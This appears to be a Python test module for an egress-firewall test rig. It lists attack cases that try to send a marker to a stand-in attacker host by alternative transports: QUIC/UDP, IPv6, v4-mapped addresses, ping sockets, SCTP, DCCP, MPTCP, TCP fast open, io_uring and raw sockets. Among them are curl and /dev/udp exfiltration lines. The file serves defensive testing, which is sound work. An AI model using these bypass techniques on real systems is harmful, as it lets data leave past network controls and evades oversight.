"""Class 5: other transports. What the kernel refuses itself need not stand in the log."""

import pathlib
import socket

from rig.attacks import ATTACKER, ATTACKER6, Attack, AttackCase, attacks, kernel_lacks
from rig.cases import expand
from rig.internet import RESOLVER, WWW


def refused_in_kernel(label, program, **more):
    return Attack(label, program, logged=False, **more)


def no_io_uring():
    path = pathlib.Path("/proc/sys/kernel/io_uring_disabled")
    return "io_uring is switched off" if path.exists() and path.read_text().strip() == "2" else None


MAPPED = f"::ffff:{ATTACKER}"
UDP_POLICY = f"{ATTACKER}:443/udp exe=/usr/bin/nothing\n{WWW}:7000/udp\n"
SCTP, DCCP, UDPLITE, MPTCP = 132, 33, 136, 262

ATTACKS = [
    Attack("QUIC's port", "udp(443)"),
    Attack("a rule for another program", "udp(443)", policy=UDP_POLICY),
    Attack("an allowed flow's socket, another destination", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("{WWW}", 7000)); s.recv(10)
s.sendto(mark, (ATTACKER, 443)); s.recv(10)""", policy=UDP_POLICY),
    Attack("an allowed flow's port, another destination", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 40111)); s.sendto(b"x", ("{WWW}", 7000)); s.recv(10); s.close()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 40111)); s.connect((ATTACKER, 443)); s.send(mark); s.recv(10)""", policy=UDP_POLICY),
    # By name only: what begins a connection of QUIC is to be seen first. The second of two segments
    # of one send is such a datagram.
    Attack("QUIC behind noise, in one segmented send", f"""
to = (socket.gethostbyname("www.evil.example"), 443)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"noise", to); s.recv(10)
s.setsockopt(17, 103, 40)  # UDP_SEGMENT
s.sendto(b"n" * 40 + b"\\xc0\\0\\0\\0\\1" + mark, to); s.recv(10)""", silent=False,
           policy=f"{RESOLVER}:53/udp\nwww.evil.example:443/udp\n", logged=False),
    Attack("QUIC behind noise", f"""
to = (socket.gethostbyname("www.evil.example"), 443)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"noise", to); s.recv(10)
s.sendto(b"\\xc0\\0\\0\\0\\1" + mark, to); s.recv(10)""", silent=False,
           policy=f"{RESOLVER}:53/udp\nwww.evil.example:443/udp\n"),
    Attack("a flood, and the datagram in the midst of it", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
for i in range(20000):
    try: s.sendto(b"x", ("{WWW}", 10000 + i))
    except OSError: pass
    if i % 100 == 0:
        try: s.sendto(mark, (ATTACKER, 443))
        except OSError: pass
time.sleep(0.2)""", policy=UDP_POLICY),
    Attack("QUIC's port, connected", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((ATTACKER, 443)); s.send(mark)
s.recv(10)"""),
    refused_in_kernel("IPv6 connection", "tcp(443, ATTACKER6)"),
    refused_in_kernel("IPv6 by curl", f"curl -sSgk -m 4 https://[{ATTACKER6}]/$MARKER", shell=True),
    refused_in_kernel("IPv6 datagram", """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(mark, (ATTACKER6, 443)); s.recv(10)"""),
    refused_in_kernel("IPv6 datagram to port 53", """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(mark, (ATTACKER6, 53)); s.recv(10)"""),
    refused_in_kernel("IPv6 datagram, connected", """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect((ATTACKER6, 443)); s.send(mark)
s.recv(10)"""),
    Attack("v4-mapped connection", f'tcp(443, "{MAPPED}")', logged=False),
    refused_in_kernel("v4-mapped datagram", f"""
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(mark, ("{MAPPED}", 443)); s.recv(10)"""),
    refused_in_kernel("v4-mapped datagram to port 53", f"""
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(mark, ("{MAPPED}", 53)); s.recv(10)"""),
    refused_in_kernel("v4-mapped datagram, connected", f"""
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect(("{MAPPED}", 443)); s.send(mark)
s.recv(10)"""),
    refused_in_kernel("ping socket", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\1" + mark, (ATTACKER, 0)); s.recv(100)"""),
    refused_in_kernel("ping socket, connected", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.connect((ATTACKER, 0)); s.send(b"\\x08\\0\\0\\0\\0\\0\\0\\1" + mark); s.recv(100)"""),
    refused_in_kernel("IPv6 ping socket", """
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
s.sendto(b"\\x80\\0\\0\\0\\0\\0\\0\\1" + mark, (ATTACKER6, 0)); s.recv(100)"""),
    refused_in_kernel("UDP-Lite", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, {UDPLITE}); s.sendto(mark, (ATTACKER, 443))""",
                      needs=kernel_lacks(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE, "UDP-Lite")),
    refused_in_kernel("UDP-Lite to port 53", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, {UDPLITE}); s.sendto(mark, (ATTACKER, 53))""",
                      needs=kernel_lacks(socket.AF_INET, socket.SOCK_DGRAM, UDPLITE, "UDP-Lite")),
    refused_in_kernel("SCTP", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, {SCTP}); s.bind(("", int(MARKER[:4], 16) | 1024))
s.setblocking(False)
try: s.sendto(mark, (ATTACKER, 443))
except OSError: pass
time.sleep(0.1)""", forms=lambda marker: [(int(marker[:4], 16) | 1024).to_bytes(2, "big") + b"\x01\xbb"],
                      needs=kernel_lacks(socket.AF_INET, socket.SOCK_SEQPACKET, SCTP, "SCTP")),
    refused_in_kernel("DCCP", f"""
s = socket.socket(socket.AF_INET, 6, {DCCP}); s.bind(("", int(MARKER[:4], 16) | 1024))
s.setsockopt(269, 2, struct.pack("I", 1)); s.setblocking(False); s.connect_ex((ATTACKER, 443))
time.sleep(0.1)""", forms=lambda marker: [(int(marker[:4], 16) | 1024).to_bytes(2, "big") + b"\x01\xbb"],
                      needs=kernel_lacks(socket.AF_INET, 6, DCCP, "DCCP")),
    Attack("MPTCP", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, {MPTCP}); s.connect((ATTACKER, 443))
s.sendall(mark); s.recv(10)""", logged=False,
           needs=kernel_lacks(socket.AF_INET, socket.SOCK_STREAM, MPTCP, "MPTCP")),
    Attack("MPTCP, v4-mapped", f"""
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, {MPTCP}); s.connect(("{MAPPED}", 443))
s.sendall(mark); s.recv(10)""", logged=False,
           needs=kernel_lacks(socket.AF_INET, socket.SOCK_STREAM, MPTCP, "MPTCP")),
    Attack("TCP fast open", """
for _ in range(2):
    s = socket.socket(); s.settimeout(None); s.sendto(mark, socket.MSG_FASTOPEN, (ATTACKER, 4444)); s.recv(10); s.close()"""),
    Attack("TCP fast open by connect", """
s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    refused_in_kernel("io_uring: connection", f"tcp {ATTACKER} 4444", source="io_uring.c",
                      needs=no_io_uring),
    refused_in_kernel("io_uring: datagram", f"udp {ATTACKER} 4444", source="io_uring.c",
                      needs=no_io_uring),
    Attack("IP options", """
s = socket.socket(); s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\\x01\\x01\\x01\\0")
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    refused_in_kernel("raw socket in a user namespace of its own",
                      "unshare -Ur /usr/bin/python3 -c 'import os, socket; s = socket.socket(socket.AF_INET, "
                      f"socket.SOCK_RAW, 255); s.sendto(os.environ[\"MARKER\"].encode(), (\"{ATTACKER}\", 0))'"
                      f"; bash -c 'echo $MARKER >/dev/udp/{ATTACKER}/4444'", shell=True),
]


@expand
class Transports(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
